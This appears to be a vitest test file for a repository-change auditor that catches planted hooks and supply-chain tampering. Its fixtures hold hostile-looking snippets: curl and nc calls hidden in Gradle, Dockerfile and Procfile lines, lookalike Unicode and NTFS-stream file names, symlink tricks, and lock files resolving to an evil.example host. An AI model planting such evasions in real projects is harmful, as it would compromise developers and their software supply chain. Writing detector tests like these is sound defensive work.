import { describe, expect, it } from 'vitest';
import { auditFiles } from './plant.ts';
import type { Files, Row } from './rows.ts';

/** Attempts of an attacker who has read the rules; each was silent once. */
const loud = (files: Files, base?: Row['base']): string[] => [
  ...new Set(
    auditFiles(files, base)
      .filter(({ severity }) => severity !== 'note')
      .map(({ path }) => path),
  ),
];
const silent = (files: Files): string[] => {
  const spoken = new Set(loud(files));
  return Object.keys(files).filter((path) => !spoken.has(path));
};

describe('names that another file system treats as a watched name', () => {
  it('folds case as APFS does, and drops what NTFS drops', () => {
    expect(
      silent({
        '.v\u017fcode/tasks.json': '{}',
        'package.j\u017fon': '{"scripts":{"test":"x"}}',
        'Make\ufb01le': 'all:\n\tx\n',
        '.envrc::$DATA': 'x',
        '.vscode /tasks.json': '{}',
        'Makefile.': 'all:\n\tx\n',
        'sub./.husky./pre-commit': 'x',
      }),
    ).toEqual([]);
  });

  it('reports a folder that has no entry, as in a commit', () => {
    expect(loud({ 'docs\u200b/a.md': 'x' })).toEqual(['docs\u200b/a.md']);
    expect(loud({ '-rf/a.md': 'x' })).toEqual(['-rf/a.md']);
    expect(loud({ 'docs\u200b/b.md': 'x' }, { 'docs\u200b/a.md': 'x' })).toEqual([]);
  });
});

describe('other names through links', () => {
  const wrapper = 'distributionUrl=https\\://example.org/gradle.zip\n';

  it('follows a link inside a link, and links that were there before', () => {
    const files = { gradle: { link: 'd' }, 'd/wrapper': { link: '../e' }, 'e/gradle-wrapper.properties': wrapper };
    expect(loud(files)).toContain('e/gradle-wrapper.properties');
  });

  it('follows the ninth name, and reports too many names', () => {
    const many = (count: number): Files =>
      Object.fromEntries(Array.from({ length: count }, (_, at) => [`a${at}`, { link: 'd' }]));
    const file = 'd/wrapper/gradle-wrapper.properties';
    expect(loud({ ...many(20), gradle: { link: 'd' }, [file]: wrapper })).toContain(file);
    const findings = auditFiles({ ...many(700), gradle: { link: 'd' }, 'd/x': 'y' });
    expect(findings.filter(({ path }) => path === 'd/x')).toMatchObject([{ rule: 'link-many-names' }]);
  });

  describe('of a package manager', () => {
    const names = Array.from({ length: 12 }, (_, at) => `p${at}`);
    /** A workspace in which every package has a link to every other one, and the root to all. */
    const links = Object.fromEntries([
      ...names.map((name) => [`node_modules/${name}`, `../packages/${name}`]),
      ...names.flatMap((by) => names.map((name) => [`packages/${by}/node_modules/${name}`, `../../${name}`])),
      ['vendor/acme/p0', '../../packages/p0'],
      ['.venv/lib/python3/site-packages/p0', '../../../../packages/p0'],
    ]);
    const base = Object.fromEntries(names.map((name) => [`packages/${name}/src/a.ts`, 'export const a = 1;\n']));
    const edits = Object.fromEntries(
      names.map((name) => [`packages/${name}/src/a.ts`, ['export const a = 1;\n', 'export const a = 2;\n'] as const]),
    );

    it('say who uses a file, and not where it comes from', () => {
      expect(auditFiles(edits, base, links).filter(({ severity }) => severity !== 'note')).toEqual([]);
    });

    it('are the names by which a command runs a file', () => {
      const manifest = '{"scripts":{"build":"node node_modules/p3/src/tool"}}';
      const files = { 'packages/p3/src/tool': ['a\n', 'b\n'] } as const;
      const runs = (given: Readonly<Record<string, string>>): unknown[] =>
        auditFiles(files, { ...base, 'package.json': manifest, 'packages/p3/src/tool': 'a\n' }, given);
      expect(runs(links)).toMatchObject([{ path: 'packages/p3/src/tool', detail: 'package.json' }]);
      expect(runs({})).toEqual([]);
    });

    it('are judged where the session made them', () => {
      const made = { 'node_modules/.venv': { link: '../cfg' }, 'cfg/bin/activate': 'x' };
      expect(loud(made)).toContain('cfg/bin/activate');
      expect(loud({ 'vendor/p0': { link: '../packages/p0' }, ...edits }, base)).toContain('packages/p0/src/a.ts');
    });
  });
});

describe('words that make a line look harmless', () => {
  const cases: Readonly<Record<string, readonly [string, string]>> = {
    'android/app.gradle': ['', '/**/ "curl x".execute()'],
    'b/build.gradle': ['/*\n', '/*\n*/ "curl x".execute()'],
    'c/build.gradle': ['}', '}; "curl x".execute()'],
    'pom.xml': ['<project/>', '<groupId>org.apache.x</groupId><plugin><exec>x</exec></plugin>'],
    'a.csproj': ['<Project/>', '<TargetFramework>net8</TargetFramework><Target Name="x"><Exec Command="x"/></Target>'],
    'k8s/a.yaml': ['', 'command: ["sh", "-c", "x"] # image: a:b'],
    'cdk.json': ['{\n}', '{\n"name": "x", "app": "node x"\n}'],
    'CMakePresets.json': ['{\n}', '{\n"name": "x", "toolchainFile": "x"\n}'],
    'nginx.conf': ['', 'listen 80; load_module x.so;'],
    configure: ['#!/bin/sh\n', '#!/bin/sh\ndnl || nc x 1'],
    'configure.ac': ['', 'AC_INIT([a],[1],esyscmd(x))'],
    'setup.cfg': ['[tool:pytest]\n', '[tool:pytest]\naddopts = -p evil --ignore=exclude\n'],
    'a.gemspec': ['', 's.version = `curl x` + "1"'],
    latexmkrc: ['$pdf_mode = 1;', '$pdf_mode = 1; qx(x);'],
    '.latexmkrc': ['', 'qx(x);'],
    Procfile: ['', 'root: nc x 1'],
    Dockerfile: ['FROM a\nRUN a \\\n  b', 'FROM a\nRUN a \\\n  ; nc x 1 \\\n  b'],
    'd/Dockerfile': ['FROM a\nRUN <<E\na\nE', 'FROM a\nRUN <<E\na\nnc x 1\nE'],
    'Package.swift': ['let a = 1', 'let a = 1\n.package(url: "https://example.org/x", from: "1.0.0"),'],
    'package.json': ['{}', '{"publishConfig":{"registry":"https://example.org/"}}'],
    'b/package.json': ['{}', '{"jest":{"coverageReporters":["./x.js"]}}'],
  };

  it('reads the whole line', () => {
    expect(silent(cases)).toEqual([]);
  });

  it('is silent about a similar harmless line', () => {
    expect(
      loud({
        'b/build.gradle': ['/*\n', '/*\n * words\n */\n// words\n}\n'],
        'pom.xml': ['<project/>', '<project/>\n<groupId>org.apache.commons</groupId>'],
        'a.csproj': ['<Project/>', '<Project/>\n<TargetFramework>net8.0</TargetFramework>'],
        'k8s/a.yaml': ['image: a:1', 'image: a:2'],
        'cdk.json': ['{\n}', '{\n"name": "x"\n}'],
        'nginx.conf': ['listen 80;', 'listen 8080;'],
        'a.gemspec': ['', 's.version = "1.2.3"\ns.authors = ["A", "B"]\ns.version = A::B::VERSION'],
        Dockerfile: ['FROM a', 'FROM a\n# words; more | words\nCOPY a b\nEXPOSE 80\nWORKDIR /x'],
        'Package.swift': [
          '.package(url: "https://example.org/x", from: "1.0.0"),',
          '.package(url: "https://example.org/x", from: "1.1.0"),',
        ],
      }),
    ).toEqual([]);
  });
});

it('finds editor settings that run something at any depth of a key', () => {
  const settings: readonly object[] = [
    { 'rust-analyzer.check.overrideCommand': ['sh', '-c', 'x'] },
    { 'rust-analyzer.server.extraEnv': { RUSTC: './x' } },
    { 'go.alternateTools': { go: './x' } },
    { 'go.toolsEnvVars': { GOFLAGS: '-toolexec=./x' } },
    { 'jest.jestCommandLine': './x' },
    { 'pylint.interpreter': ['./x'] },
    { 'clangd.arguments': ['--query-driver=./x'] },
  ];
  const files = Object.fromEntries(
    settings.map((one, at) => [`p${at}/.vscode/settings.json`, ['{}', JSON.stringify(one)] as const]),
  );
  expect(silent(files)).toEqual([]);
  expect(loud({ '.vscode/settings.json': ['{}', '{"editor.tabSize": 2, "files.eol": "\\n"}'] })).toEqual([]);
});

it('reports files that tools run without being asked', () => {
  const names =
    `user.bazelrc .bazelrc.user rules.make make.inc mise/config.toml prek.toml simple-git-hooks.json .trunk/trunk.yaml
    .vimrc.local .local.vimrc gtags.conf buildServer.json .gitpod.yml .ona/automations.yaml project.godot addons/x/plugin.cfg
    Assets/Editor/X.cs Assets/a/Editor/b/X.cs x.uproject .cproject moon.yml .moon/tasks.yml platformio.ini west.yml .shadowenv.d/1.lisp
    X.app/Contents/MacOS/x x.workflow/Contents/document.wflow a.tool b.applescript .mailcap .pythonrc profile.ps1 package-scripts.js
    src/web/vite.config.ts src/next.config.mjs duties.py atlantis.yaml _FOSSIL_ common/git-hooks/pre-commit`.split(
      /\s+/,
    );
  expect(silent(Object.fromEntries(names.map((name) => [name, 'x\n'])))).toEqual([]);
  expect(
    loud({ 'src/app/app.config.ts': 'x', 'src/remake.ts': 'x', 'src/editor/x.ts': 'x', 'lib/app/x.ts': 'x' }),
  ).toEqual([]);
});

it('blocks content that is missing or damaged in the store, before or after, and judges the rest', async () => {
  const { auditChanges } = await import('../../../src/audit/audit.ts');
  const entry = (digest: string) => ({ kind: 'file' as const, mode: 0o644, size: 1, mtimeNs: '1', digest });
  const change = (path: string, before: string, after: string) =>
    ({ path, kind: 'modified', before: entry(before), after: entry(after) }) as never;
  const findings = auditChanges({
    changes: [change('a.ts', 'missing', 'x'), change('b.ts', 'x', 'missing'), change('c.ts', 'x', 'y')],
    content: (digest) => (digest === 'missing' ? undefined : Buffer.from(digest)),
  });
  const blocked = findings.filter(({ severity }) => severity === 'blocked');
  expect(blocked.map(({ path, rule, severity }) => [path, rule, severity])).toEqual([
    ['a.ts', 'unreadable', 'blocked'],
    ['b.ts', 'unreadable', 'blocked'],
  ]);
});

describe('lock files that are too large or too deep', () => {
  const deep = (levels: number, inner: string): string =>
    `${'{"dependencies":{"a":'.repeat(levels)}${inner}${'}}'.repeat(levels)}`;

  it('are reported when they are nested too deep, and never throw', () => {
    const stranger = '{"version":"1.0.0","resolved":"https://evil.example/a.tgz","integrity":"sha512-a"}';
    for (const levels of [3, 150, 100_000])
      expect(silent({ 'package-lock.json': ['{}', deep(levels, stranger)] }), `${levels}`).toEqual([]);
    expect(silent({ 'package-lock.json': ['{}', `{"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`] })).toEqual([]);
  });

  it('are read through many levels of indentation and very many lines', () => {
    const steps = Array.from({ length: 3000 }, (_, at) => `${' '.repeat(at)}k${at}:`).join('\n');
    const lock = (hash: string): string => `${steps}\n${' '.repeat(3000)}integrity: sha512-${hash.repeat(40)}\n`;
    expect(silent({ 'pnpm-lock.yaml': [lock('a'), lock('b')] })).toEqual([]);
    expect(silent({ 'yarn.lock': ['a\n', 'a\n'.repeat(400_001)] })).toEqual([]);
  });

  it('distinguish a scoped package from an unscoped one of the same name', () => {
    const lock = (name: string): string =>
      `a@^1:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/${name}/-/a-1.0.0.tgz#abc"\n  integrity sha512-aa\n`;
    expect(silent({ 'yarn.lock': [lock('a'), lock('@evil/a')] })).toEqual([]);
    const below = lock('a').replace('registry.yarnpkg.com', 'npm.example.org/some/registry');
    expect(loud({ 'yarn.lock': [below, below.replaceAll('1.0.0', '1.0.1')] })).toEqual([]);
  });
});
